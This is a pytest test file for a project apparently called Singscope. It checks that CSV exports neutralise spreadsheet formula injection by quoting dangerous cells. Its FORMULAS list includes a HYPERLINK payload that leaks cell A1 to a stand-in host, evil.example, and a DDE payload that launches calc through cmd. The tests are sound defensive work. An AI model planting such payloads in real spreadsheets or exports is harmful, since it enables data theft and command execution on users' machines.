"""CSV injection: every CSV Singscope writes passes its cells through common.csv_safe, which applies
the OWASP rule: a cell a spreadsheet would read as a formula (it starts with = + - @, a tab or a
carriage return, also after leading spaces) is prefixed with a single quote and shown as text."""

import csv
import io

import pytest
from factories import ModelVersionFactory, ReportFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+1",
    "-1+1",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=cmd|' /C calc'!A0",
    "-",
    "+",
    "@",
    "=",
]
HARMLESS = ["Hey Jude", "", "1+1", "100%", "a=b", "-0.5", "42", "12.5"]


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip(" ")[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value):
    from common.csv_safe import csv_cell

    cell = csv_cell(value)
    assert cell == "'" + value
    assert not _dangerous(cell)


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_text_and_numbers_are_unchanged(value):
    from common.csv_safe import csv_cell

    assert csv_cell(value) == value


def test_numbers_stay_numbers():
    from common.csv_safe import csv_cell

    assert csv_cell(-3) == "-3" and csv_cell(0.25) == "0.25" and csv_cell(None) == ""


@pytest.mark.django_db
def test_song_titles_in_a_report_csv_reach_no_cell_as_a_formula(logged_in_client, project, user):
    model = ModelVersionFactory(project=project, name="=1+1", kind="target", checkpoint="m/x.pt")
    per_song = [{"song": i + 1, "title": title, "revision": i + 10, "frames": 100, "f1": 0.5}
                for i, title in enumerate(FORMULAS)]
    report = ReportFactory(project=project, model_version=model, name="@SUM(1,2)",
                           per_song=per_song, pooled={"frames": 1200, "f1": -0.25})
    response = logged_in_client.get(f"/api/reports/{report.pk}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if _dangerous(c) and not _is_number(c)], cells
    titles = [row[1] for row in rows[1:-1]]
    assert titles == ["'" + t for t in FORMULAS]  # shown as the text they were, nothing lost
    assert rows[-1][rows[0].index("f1")] == "-0.25"  # a negative number is still a number


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
